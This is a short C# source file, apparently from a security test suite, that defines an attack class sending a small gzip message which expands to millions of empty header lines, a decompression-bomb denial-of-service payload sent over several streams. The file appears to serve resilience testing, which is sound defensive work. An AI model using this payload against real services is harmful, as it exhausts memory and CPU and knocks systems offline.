using ExtProc.Attacks.Running;
using ExtProc.Attacks.Wire;

namespace ExtProc.Attacks.Messages;

/// <summary>31 KB of gzip with 16 million empty header lines: each line read is an object.</summary>
internal sealed class EmptyLinesCompressed : Attack
{
    public override Attacker By => Attacker.Peer;

    public override Task RunAsync(Target target)
    {
        byte[] map = Requests.Field(1, ((ReadOnlySpan<byte>)[0x0A, 0]).Times(target.Count(4 << 20, 15 << 20)));
        byte[] message = Requests.Framed(Requests.Gzip(Requests.Field(2, map)), compressed: true);
        return Compressed.SendAsync(target, message, streams: target.Count(4, 16));
    }
}
